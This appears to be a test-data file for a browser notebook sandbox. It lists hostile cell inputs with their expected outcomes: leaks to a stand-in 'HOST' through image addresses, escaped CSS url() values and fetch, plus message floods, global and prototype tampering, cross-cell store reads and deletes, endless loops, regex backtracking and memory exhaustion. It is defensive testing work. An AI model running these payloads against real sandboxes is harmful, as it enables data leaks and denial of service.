/**
 * What a hostile or a careless cell tries, as data: one case a line. `npm run bench -- hostile` runs them all in
 * Chromium and Firefox and prints what came of each; the tests of this folder run them by room.
 */
export interface Attempt {
  name: string;
  room: 'network' | 'drawing' | 'functions' | 'flood' | 'globals' | 'store' | 'time' | 'memory' | 'values';
  source: string;
  /** States in which the cell may end by itself; `running`: only Stop ends it. */
  ends: readonly ('fresh' | 'failed' | 'running')[];
  /** The code of an error that must be said. */
  says?: string;
  /** Takes so long that only the benchmark runs it, seconds. */
  slow?: number;
}

/** The kernel's port, as if a cell had got hold of it: pages that try this are opened with `port: true`. */
export const port = `const port = self.kernelPort; const send = MessagePort.prototype.postMessage;`;
const post = (message: string): string =>
  `${port}\nfor (let n = 0; n < 5000; n++) send.call(port, ${message});\nawait new Promise((end) => setTimeout(end, 3000));`;
const output = (made: string): string =>
  post(`{ type: 'output', run: 1, cell: 'unread-row', version: 1, slot: n % 300, output: ${made} }`);

export const attempts: readonly Attempt[] = [
  // ---------------------------------------------------------------- what leaks
  { name: 'a picture by address', room: 'network', source: `Plot.plot({ marks: [Plot.image(['http://HOST/x?secret=42'], { src: Plot.identity, x: [1], y: [1] })] })`, ends: ['fresh', 'failed'] },
  { name: 'a picture by address in rows', room: 'network', source: `Plot.plot({ marks: [Plot.image([{ u: 'http://HOST/x' }], { src: { value: 'u' }, x: [1], y: [1] })] })`, ends: ['fresh', 'failed'] },
  { name: 'an escaped address as a colour', room: 'network', source: `Plot.legend({ color: { type: 'categorical', domain: ['a'], range: ['u\\\\72l(http://HOST/l.svg#a)'] } })`, ends: ['fresh', 'failed'] },
  { name: 'an escaped address as a filter', room: 'network', source: `Plot.plot({ marks: [Plot.dot([[1, 2]], { imageFilter: 'u\\\\72l(http://HOST/f.svg#a)' })] })`, ends: ['fresh', 'failed'] },
  { name: 'fetch', room: 'network', source: `await fetch('http://HOST/x')`, ends: ['failed'] },
  // ---------------------------------------------------------------- what freezes the page
  { name: 'ten million ticks', room: 'drawing', source: `Plot.plot({ x: { domain: [0, 1], ticks: 1e7 }, marks: [Plot.dot([[0, 0]])] })`, ends: ['fresh', 'failed'] },
  { name: 'a tick each second of 130 years', room: 'drawing', source: `Plot.plot({ x: { type: 'utc', domain: [new Date('1900'), new Date('2030')], ticks: '1 second' }, marks: [Plot.dot([[new Date('1950'), 0]])] })`, ends: ['fresh', 'failed'] },
  { name: 'an interval of 1 over a thousand million', room: 'drawing', source: `Plot.plot({ x: { domain: [0, 1e9], interval: 1 }, marks: [Plot.dot([[0, 0]])] })`, ends: ['fresh', 'failed'] },
  { name: '20,000 thresholds of density', room: 'drawing', source: `Plot.plot({ marks: [Plot.density(Array.from({ length: 500 }, (_, i) => [Math.sin(i), Math.cos(i * i)]), { thresholds: 20000 })] })`, ends: ['fresh', 'failed'] },
  { name: 'a raster of tiny pixels', room: 'drawing', source: `Plot.plot({ marks: [Plot.raster(Array.from({ length: 100 }, (_, i) => [i, i * 7 % 13, i]), { x: '0', y: '1', fill: '2', pixelSize: 0.02, interpolate: 'nearest' })] })`, ends: ['fresh', 'failed'] },
  { name: 'a grid of tiny hexagons', room: 'drawing', source: `Plot.plot({ marks: [Plot.hexgrid({ binWidth: 0.02 })] })`, ends: ['fresh', 'failed'] },
  { name: 'five million bins', room: 'drawing', source: `Plot.plot({ marks: [Plot.rectY([1, 2, 3], Plot.binX({ y: 'count' }, { thresholds: 5e6 }))] })`, ends: ['fresh', 'failed'] },
  { name: '100,000 dots', room: 'drawing', source: `Plot.plot({ marks: [Plot.dot(Array.from({ length: 1e5 }, (_, i) => [i, (i * 7919) % 997]))] })`, ends: ['fresh', 'failed'] },
  { name: '150 long formulas', room: 'drawing', source: `for (let n = 0; n < 150; n++) display.tex('x^{2}+'.repeat(3000) + n);`, ends: ['fresh', 'failed'] },
  { name: '200 large tables', room: 'drawing', source: `const rows = Array.from({ length: 5000 }, (_, i) => Array.from({ length: 60 }, (_, j) => i * j)); for (let n = 0; n < 200; n++) display.table(rows);`, ends: ['fresh', 'failed'], slow: 60 },
  { name: '60 times ResNet-152', room: 'drawing', source: `for (let n = 0; n < 60; n++) display(nn.resnet(152));`, ends: ['fresh', 'failed'] },
  { name: '60 pictures of 2048²', room: 'drawing', source: `const big = tf.randomUniform([2048, 2048, 3]); for (let n = 0; n < 60; n++) display.images(big);`, ends: ['fresh', 'failed', 'running'], slow: 60 },
  { name: 'a row of texts that almost end in a number', room: 'drawing', source: `display.table([Array.from({ length: 100 }, () => 'a' + ' '.repeat(1998) + '!')])`, ends: ['fresh', 'failed'] },
  { name: 'a menu of 1,000 texts that almost end in a number', room: 'drawing', source: `view(Inputs.select(Array.from({ length: 1000 }, (_, n) => 'a' + ' '.repeat(990) + '!' + n)))`, ends: ['fresh', 'failed'] },
  { name: 'a form of 50 times 1,000 choices', room: 'drawing', source: `view(Inputs.form(Array.from({ length: 50 }, () => Inputs.radio(Array.from({ length: 1000 }, (_, n) => 'choice ' + n)))))`, ends: ['fresh', 'failed'] },
  { name: 'a form of as many choices as are drawn', room: 'drawing', source: `view(Inputs.form(Array.from({ length: 3 }, () => Inputs.radio(Array.from({ length: 1000 }, (_, n) => 'choice ' + n)))))`, ends: ['fresh', 'failed'] },
  { name: 'twelve values of two scripts by turns', room: 'drawing', source: `display(Array.from({ length: 12 }, () => 'aก'.repeat(990)))`, ends: ['fresh', 'failed'] },
  { name: '50 fields of 10,000 signs', room: 'drawing', source: `view(Inputs.form(Array.from({ length: 50 }, () => Inputs.textarea({ value: '두 언어 text '.repeat(1000) }))))`, ends: ['fresh', 'failed'] },
  { name: '50 fields of 10,000 signs of two scripts', room: 'drawing', source: `view(Inputs.form(Array.from({ length: 50 }, () => Inputs.textarea({ value: 'aก'.repeat(5000), placeholder: 'aก'.repeat(500) }))))`, ends: ['fresh', 'failed'] },
  { name: 'a menu of 1,000 texts of two scripts', room: 'drawing', source: `view(Inputs.select(Array.from({ length: 1000 }, (_, n) => n + 'aก'.repeat(490))))`, ends: ['fresh', 'failed'] },
  { name: 'a field with 1,000 long suggestions', room: 'drawing', source: `view(Inputs.text({ datalist: Array.from({ length: 1000 }, (_, n) => n + 'aก'.repeat(490)) }))`, ends: ['fresh', 'failed'] },
  { name: 'rows of 100 texts of two scripts', room: 'drawing', source: `display.table(Array.from({ length: 20 }, () => Array.from({ length: 100 }, () => 'aก'.repeat(990))))`, ends: ['fresh', 'failed'] },
  { name: 'a table to choose from of long texts', room: 'drawing', source: `view(Inputs.table(Array.from({ length: 100 }, () => Object.fromEntries(Array.from({ length: 50 }, (_, at) => ['c' + at, 'aก'.repeat(200)]))), { rows: 5000 }))`, ends: ['fresh', 'failed'] },
  { name: 'tips of 10,000 signs', room: 'drawing', source: `Plot.plot({ marks: [Plot.dot(Array.from({ length: 500 }, (_, i) => i), { x: (d) => d % 25, y: (d) => d / 25, title: () => 'aก '.repeat(3333), tip: true }), Plot.text(Array.from({ length: 500 }, (_, i) => i), Plot.pointer({ x: (d) => d % 25, y: (d) => d / 25, text: () => 'aก '.repeat(3333) }))] })`, ends: ['fresh', 'failed'] },
  { name: '1,024 pictures of a pixel', room: 'drawing', source: `display.images(tf.zeros([1024, 1, 1, 3]))`, ends: ['fresh', 'failed'] },
  // ---------------------------------------------------------------- functions that Plot calls while it draws
  { name: 'a tick that is an object', room: 'functions', source: `Plot.plot({ x: { tickFormat: () => ({ toString: () => 'x', then: (f) => f(1), nodeType: 1, ownerDocument: {} }) }, marks: [Plot.dotX([1, 2])] })`, ends: ['fresh', 'failed'] },
  { name: 'ticks of ten million signs', room: 'functions', source: `Plot.plot({ x: { tickFormat: () => 'aก'.repeat(5e6) }, marks: [Plot.dotX([1, 2])] })`, ends: ['fresh', 'failed'] },
  { name: 'tips of ten million signs', room: 'functions', source: `Plot.dot([[1, 2], [3, 4]], { tip: { format: { x: () => 'aก'.repeat(5e6) } } })`, ends: ['fresh', 'failed'] },
  { name: 'a colour that is an address', room: 'functions', source: `Plot.plot({ color: { interpolate: (t) => 'url(http://HOST/x)' }, marks: [Plot.dotX([1, 2], { fill: (d) => d })] })`, ends: ['failed', 'fresh'], says: 'output-refused' },
  { name: 'a colour that is an escaped address', room: 'functions', source: `Plot.plot({ color: { interpolate: (t) => 'u\\\\72l(http://HOST/x)' }, marks: [Plot.dotX([1, 2], { fill: (d) => d })] })`, ends: ['failed', 'fresh'], says: 'plot-color' },
  { name: 'a picture by address from a reducer', room: 'functions', source: `Plot.image([[1, 2], [3, 4]], Plot.groupX({ src: (all) => 'http://HOST/x?' + all.length, y: 'count' }, { x: '0', src: '0' }))`, ends: ['failed', 'fresh'], says: 'plot-address' },
  { name: 'links and pictures from an initializer', room: 'functions', source: `Plot.dot([1, 2], Plot.initializer({ x: (d) => d }, (data, facets) => ({ data, facets, channels: { href: { value: ['http://HOST/x', 'http://HOST/y'] }, fill: { value: ['url(http://HOST/z)', 'red'] } } })))`, ends: ['failed', 'fresh'], says: 'output-refused' },
  { name: 'rows with links from a transform', room: 'functions', source: `Plot.dot([{ x: 1 }], Plot.transform({ x: 'x', href: 'to', title: 'to' }, (data, facets) => ({ data: [{ x: 1, to: 'http://HOST/x', href: 'http://HOST/y' }], facets })))`, ends: ['failed', 'fresh'] },
  { name: 'a curve that calls what is no stroke', room: 'functions', source: `Plot.lineY([1, 2], { curve: (path) => ({ lineStart() {}, lineEnd() {}, point(x, y) { path.constructor.constructor('return 1')(); path.moveTo('http://HOST/x', y); path.lineTo(NaN, Infinity); } }) })`, ends: ['failed', 'fresh'] },
  { name: 'a projection of a million points', room: 'functions', source: `Plot.plot({ projection: { stream: (sink) => ({ point() { for (let i = 0; i < 1e6; i++) sink.point(i, i); }, lineStart() { sink.lineStart(); }, lineEnd() { sink.lineEnd(); }, polygonStart() {}, polygonEnd() {}, sphere() {} }) }, marks: [Plot.geo({ type: 'LineString', coordinates: [[0, 0], [1, 1]] })] })`, ends: ['failed', 'fresh'] },
  { name: 'a curve that never ends', room: 'functions', source: `Plot.lineY([1, 2], { curve: (path) => ({ lineStart() { for (;;); }, lineEnd() {}, point() {} }) })`, ends: ['running'] },
  { name: 'a projection out of order, and after its end', room: 'functions', source: `Plot.plot({ projection: { stream: (s) => ({ point(x, y) { s.polygonEnd(); s.lineEnd(); s.point(x, y); s.lineStart(); s.sphere(); setTimeout(() => s.point(9, 9), 10); }, lineStart() { s.lineEnd(); }, lineEnd() { s.lineStart(); }, polygonStart() { s.polygonEnd(); }, polygonEnd() { s.polygonStart(); }, sphere() { s.sphere(); } }) }, marks: [Plot.geo({ type: 'LineString', coordinates: [[0, 0], [1, 1]] }), Plot.sphere(), Plot.graticule()] })`, ends: ['failed', 'fresh'] },
  { name: 'facets without end from a transform', room: 'functions', source: `Plot.dot([1, 2], Plot.transform({ x: (d) => d }, (data) => ({ data, facets: (function* () { for (;;) yield [0]; })() })))`, ends: ['running', 'failed'] },
  { name: 'an answer that is promised', room: 'functions', source: `Plot.plot({ x: { tickFormat: async (d) => '' + d }, marks: [Plot.dotX([1, 2])] })`, ends: ['failed'], says: 'plot-value' },
  { name: 'a tick that never ends', room: 'functions', source: `Plot.plot({ x: { tickFormat: () => { for (;;); } }, marks: [Plot.dotX([1, 2])] })`, ends: ['running'] },
  { name: 'a tick that throws', room: 'functions', source: `Plot.plot({ x: { tickFormat: () => { throw new RangeError('not today'); } }, marks: [Plot.dotX([1, 2])] })`, ends: ['failed'] },
  { name: 'a tick that throws nothing at all', room: 'functions', source: `Plot.plot({ x: { tickFormat: () => { throw undefined; } }, marks: [Plot.dotX([1, 2])] })`, ends: ['failed'] },
  { name: 'a function that answers with functions without end', room: 'functions', source: `const more = (a, b) => more; Plot.plot({ color: { type: 'linear', range: ['red', 'blue'], interpolate: more }, marks: [Plot.dotX([1, 2], { fill: (d) => d })] })`, ends: ['fresh', 'failed'] },
  { name: '300,000 thresholds, all alike', room: 'functions', source: `Plot.rectY([1, 2, 3], Plot.binX({ y: 'count' }, { x: (d) => d, thresholds: () => new Float64Array(3e5) }))`, ends: ['fresh', 'failed'] },
  { name: 'as many thresholds as one likes', room: 'functions', source: `Plot.rectY([1, 2, 3], Plot.binX({ y: 'count' }, { x: (d) => d, thresholds: () => 1e5 }))`, ends: ['fresh', 'failed'] },
  { name: 'an answer that is a plot', room: 'functions', source: `Plot.dot([[1, 2]], { tip: { format: { x: () => Plot.plot({ marks: [Plot.image([1], { src: () => 'http://HOST/x' })] }) } } })`, ends: ['fresh', 'failed'], says: 'output-refused' },
  { name: 'an answer of a million values', room: 'functions', source: `Plot.plot({ x: { tickFormat: () => Array.from({ length: 1e6 }, (_, i) => '' + i) }, marks: [Plot.dotX([1, 2])] })`, ends: ['failed'], says: 'plot-too-large' },
  // ---------------------------------------------------------------- floods
  { name: 'ends of other runs', room: 'flood', source: post(`{ type: 'ended', run: n + 1000, cell: 'unread-row', version: 1, outcome: 'ok', milliseconds: 1, memory: { numTensors: 0, numBytes: 0 } }`), ends: ['failed'], says: 'kernel-excess' },
  { name: 'two megabytes of junk in each end', room: 'flood', source: post(`{ type: 'ended', run: 1, cell: 'unread-row', version: 1, outcome: 'ok', milliseconds: 1, memory: { numTensors: 0, numBytes: 0 }, junk: 'x'.repeat(2e6) }`), ends: ['failed'], says: 'kernel-excess' },
  { name: 'tables of 500,000 cells', room: 'flood', source: output(`{ kind: 'table', columns: Array.from({ length: 100 }, (_, i) => 'c' + i), rows: Array.from({ length: 5000 }, () => Array(100).fill(1)) }`).replace('n < 5000', 'n < 20'), ends: ['failed'], says: 'kernel-excess' },
  { name: 'a network of 290,000 layers', room: 'flood', source: output(`{ kind: 'network', network: { layers: Array.from({ length: 290000 }, (_, i) => ({ name: 'l' + i, kind: 'relu', inputs: ['l' + (i - 1)], output: [8, 8, 8] })) } }`).replace('n < 5000', 'n < 2'), ends: ['failed'], says: 'kernel-excess' },
  { name: 'messages of no type', room: 'flood', source: post(`n`), ends: ['failed'], says: 'kernel-excess' },
  { name: 'answers to no question', room: 'flood', source: post(`{ type: 'answer', request: n, ok: true, value: 1 }`), ends: ['failed'], says: 'kernel-excess' },
  { name: 'notes without end', room: 'flood', source: post(`{ type: 'noted', info: { backend: 'wasm', device: 'x' + n, skipped: [], notes: [], memory: { numTensors: 0, numBytes: 0 } } }`), ends: ['failed'], says: 'kernel-excess' },
  { name: 'requests without end', room: 'flood', source: post(`{ type: 'request', request: 1e6 + n, name: 'data/dogs-and-cats', value: null }`), ends: ['failed'], says: 'kernel-excess' },
  { name: 'a list nested 3,000 deep', room: 'flood', source: `${port}\nlet deep = []; for (let n = 0; n < 3000; n++) deep = [deep]; for (let n = 0; n < 100; n++) send.call(port, { type: 'answer', request: 1, ok: true, value: deep });\nawait new Promise((end) => setTimeout(end, 3000));`, ends: ['failed'] },
  { name: 'postMessage for ever', room: 'flood', source: `for (;;) self.postMessage(1);`, ends: ['failed'] },
  { name: 'errors for ever', room: 'flood', source: `for (;;) self.reportError(new Error('x'));`, ends: ['running', 'failed'] },
  { name: 'prints without end', room: 'flood', source: `for (let n = 0; ; n++) { console.log(n); if (n % 1000 === 0) await tf.nextFrame(); }`, ends: ['running'] },
  { name: '300 outputs, each renewed all the time', room: 'flood', source: `const shown = Array.from({ length: 290 }, (_, n) => display(n)); for (let n = 0; ; n++) { for (const each of shown) each.update(n); await tf.nextFrame(); }`, ends: ['running'] },
  // ---------------------------------------------------------------- globals
  { name: 'an adapter that never comes', room: 'globals', source: `navigator.gpu.requestAdapter = () => new Promise(() => {}); 'taken'`, ends: ['failed'] },
  { name: 'postMessage of ports replaced', room: 'globals', source: `const send = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (message, ...rest) { return send.call(this, JSON.parse(JSON.stringify(message).replace(/0\\.\\d+/g, '0.999')), ...rest); };`, ends: ['failed'], says: 'object-frozen' },
  { name: 'Math.random replaced', room: 'globals', source: `Math.random = () => 0.999;`, ends: ['failed'], says: 'globals-altered' },
  { name: 'an iterator replaced', room: 'globals', source: `const each = Array.prototype[Symbol.iterator]; Array.prototype[Symbol.iterator] = function () { return each.call(this); };`, ends: ['failed'], says: 'object-frozen' },
  { name: 'a method of tensors replaced', room: 'globals', source: `tf.Tensor.prototype.dataSync = () => [0.999];`, ends: ['failed'], says: 'globals-altered' },
  { name: 'an operation registered anew', room: 'globals', source: `tf.unregisterKernel('Mean', tf.getBackend()); tf.registerKernel({ kernelName: 'Mean', backendName: tf.getBackend(), kernelFunc: () => { throw 1; } });`, ends: ['failed'], says: 'globals-altered' },
  { name: 'Object.prototype added to', room: 'globals', source: `Object.prototype.slot = 7;`, ends: ['failed'], says: 'object-frozen' },
  { name: 'a getter on Promise.prototype.then', room: 'globals', source: `const then = Promise.prototype.then; Object.defineProperty(Promise.prototype, 'then', { configurable: true, get: () => then });`, ends: ['failed'], says: 'object-frozen' },
  { name: 'the next of a generator replaced', room: 'globals', source: `const generated = Object.getPrototypeOf(function* () {}).prototype; generated.next = () => ({ done: true });`, ends: ['failed'], says: 'object-frozen' },
  { name: 'the next of an asynchronous generator replaced', room: 'globals', source: `const generated = Object.getPrototypeOf(async function* () {}).prototype; generated.next = async () => ({ done: true, value: 0.999 });`, ends: ['failed'], says: 'object-frozen' },
  { name: 'the call of a layer without a name of its own replaced', room: 'globals', source: `Object.getPrototypeOf(tf.layers.dense({ units: 1 })).call = () => tf.zeros([1, 1]);`, ends: ['failed'], says: 'globals-altered' },
  { name: 'an initializer replaced', room: 'globals', source: `Object.getPrototypeOf(tf.initializers.ones()).apply = (shape) => tf.zeros(shape);`, ends: ['failed'], says: 'globals-altered' },
  { name: 'a method given to the backend', room: 'globals', source: `tf.backend().readSync = () => new Float32Array(1000);`, ends: ['failed'], says: 'globals-altered' },
  { name: 'a method given to the engine', room: 'globals', source: `tf.engine().runKernel = () => tf.zeros([1]);`, ends: ['failed'], says: 'globals-altered' },
  { name: 'a gradient registered anew', room: 'globals', source: `tf.unregisterGradient('Square'); tf.registerGradient({ kernelName: 'Square', gradFunc: (dy) => ({ x: () => tf.zerosLike(dy) }) });`, ends: ['failed'], says: 'globals-altered' },
  { name: 'a clock that stands', room: 'globals', source: `Object.defineProperty(performance, 'now', { value: () => 7, configurable: true });`, ends: ['failed'], says: 'object-frozen' },
  { name: 'another prototype for arrays', room: 'globals', source: `Object.setPrototypeOf(Array.prototype, { __proto__: Object.prototype, rumour: 0.999 });`, ends: ['failed'] },
  { name: 'arrays frozen', room: 'globals', source: `Object.freeze(Array.prototype);`, ends: ['fresh'] },
  { name: 'traces switched off', room: 'globals', source: `Error.stackTraceLimit = 0;`, ends: ['failed'], says: 'globals-altered' },
  { name: 'a number format that lies', room: 'globals', source: `Object.defineProperty(Intl.NumberFormat.prototype, 'format', { get: () => () => '0.999', configurable: true });`, ends: ['failed'], says: 'object-frozen' },
  { name: 'a call of its own for a method', room: 'globals', source: `Object.prototype.hasOwnProperty.call = () => true;`, ends: ['failed'], says: 'object-frozen' },
  { name: 'maps that give nothing', room: 'globals', source: `Map.prototype.get = () => 0.999;`, ends: ['failed'], says: 'object-frozen' },
  { name: 'a setter replaced', room: 'globals', source: `Object.defineProperty(Object.prototype, '__proto__', { set() {}, configurable: true });`, ends: ['failed'], says: 'globals-altered' },
  { name: 'the memory of the backend written over', room: 'globals', source: `tf.backend().wasm.HEAPU8.fill(255, 0, 100_000); tf.ones([3]).sum().dataSync()[0]`, ends: ['failed', 'fresh'] },
  { name: 'an engine that believes in terabytes', room: 'globals', source: `tf.engine().state.numBytes = 1e13;`, ends: ['failed'], says: 'globals-altered' },
  { name: 'a name of its own on globalThis', room: 'globals', source: `globalThis.mine = 1; globalThis.mine`, ends: ['fresh'] },
  { name: 'a class of its own, registered', room: 'globals', source: `class Twice extends tf.layers.Layer { static className = 'Twice'; call(x) { return tf.mul(Array.isArray(x) ? x[0] : x, 2); } }\ntf.serialization.registerClass(Twice);\nnew Twice().apply(tf.ones([2]))`, ends: ['fresh'] },
  { name: 'an interval of the worker', room: 'globals', source: `self.setInterval(() => { for (const until = Date.now() + 40; Date.now() < until;); }, 50); 1`, ends: ['fresh'] },
  { name: '40 busy workers', room: 'globals', source: `const code = URL.createObjectURL(new Blob(['for (;;);'])); for (let n = 0; n < 40; n++) new self.Worker(code); await new Promise((end) => setTimeout(end, 300)); 1`, ends: ['fresh', 'failed'] },
  // ---------------------------------------------------------------- the store
  { name: 'a kept thing of another cell read', room: 'store', source: `${port}\nfor (const [n, key] of ['run/x', '../other/checkpoint/best/last', 'cell/02-building-resnet/stem/checkpoint/best/last'].entries()) send.call(port, { type: 'request', request: 1e6 + n, name: 'store/get', value: { key } });\nawait new Promise((end) => setTimeout(end, 500));`, ends: ['fresh'] },
  { name: 'all kept things deleted', room: 'store', source: `${port}\nfor (let n = 0; n < 20; n++) send.call(port, { type: 'request', request: 1e6 + n, name: 'store/delete', value: { key: 'run/' + n } });\nawait new Promise((end) => setTimeout(end, 500));`, ends: ['fresh'] },
  { name: '200 tiny things kept', room: 'store', source: `${port}\nfor (let n = 0; n < 200; n++) send.call(port, { type: 'request', request: 1e6 + n, name: 'store/put', value: { key: 'tiny/' + n, value: n } });\nawait new Promise((end) => setTimeout(end, 1000));`, ends: ['fresh'] },
  { name: '60 forged times of training kernels kept', room: 'store', source: `${port}\nconst timing = { stock: 9, fused: 1, won: { fused: [true] } }; const names = ['filterGradient', 'inputGradient', 'batchNorm', 'update', 'block', 'forward']; const value = { choice: Object.fromEntries(names.map((name) => [name, 'fused'])), timings: Object.fromEntries(names.map((name) => [name, timing])) };\nfor (let n = 0; n < 60; n++) send.call(port, { type: 'request', request: 1e6 + n, name: 'store/put', value: { key: ['kernels/4/webgpu/a-device-abc/4.22.' + n, 'kernels/2/4.22.0/webgpu/' + n, 'kernels/x' + n][n % 3], value } });\nawait new Promise((end) => setTimeout(end, 1000));`, ends: ['fresh'] },
  { name: '640 megabytes kept', room: 'store', source: `${port}\nfor (let n = 0; n < 10; n++) send.call(port, { type: 'request', request: 1e6 + n, name: 'store/put', value: { key: 'big/' + n, value: new Uint8Array(64 * 2 ** 20) } });\nawait new Promise((end) => setTimeout(end, 3000));`, ends: ['fresh'], slow: 10 },
  // ---------------------------------------------------------------- time
  { name: 'an endless loop', room: 'time', source: `for (;;);`, ends: ['running'] },
  { name: 'an endless loop of promises', room: 'time', source: `for (;;) await 0;`, ends: ['running'] },
  { name: 'an endless loop that yields', room: 'time', source: `for (;;) await tf.nextFrame();`, ends: ['running'] },
  { name: 'an endless generator', room: 'time', source: `function* all() { for (;;) yield 1; } for (const one of all()) if (one > 1) break;`, ends: ['running'] },
  { name: 'an endless regular expression', room: 'time', source: `/^(a+)+$/.test('a'.repeat(50) + 'b')`, ends: ['running', 'fresh'] },
  { name: 'a promise that never settles', room: 'time', source: `await new Promise(() => {});`, ends: ['running'] },
  { name: 'endless recursion', room: 'time', source: `(function again() { again(); })()`, ends: ['failed'] },
  // ---------------------------------------------------------------- memory
  { name: 'arrays without end', room: 'memory', source: `(() => { const k = []; for (;;) k.push(new Array(1e5).fill(0).map(Math.random)); })()`, ends: ['failed'], slow: 120 },
  { name: 'a tensor of 4 GB', room: 'memory', source: `tf.ones([1024, 1024, 1024])`, ends: ['failed'] },
  { name: '100,000 tensors', room: 'memory', source: `const all = []; for (let n = 0; n < 1e5; n++) all.push(tf.scalar(n)); all.length`, ends: ['fresh', 'failed'] },
  { name: 'a text of a gigabyte', room: 'memory', source: `'x'.repeat(2 ** 30)`, ends: ['failed'] },
  // ---------------------------------------------------------------- values
  { name: 'a value that holds itself', room: 'values', source: `const self1 = {}; self1.self1 = self1; self1`, ends: ['fresh'] },
  { name: 'a proxy that throws', room: 'values', source: `new Proxy({}, { get() { throw new Error('no'); }, ownKeys() { throw new Error('no'); } })`, ends: ['fresh', 'failed'] },
  { name: 'a getter that never returns', room: 'values', source: `({ get x() { for (;;); } })`, ends: ['running', 'fresh'] },
  { name: 'a thrown proxy', room: 'values', source: `throw new Proxy({}, { get() { throw 1; } })`, ends: ['failed'] },
]; // prettier-ignore
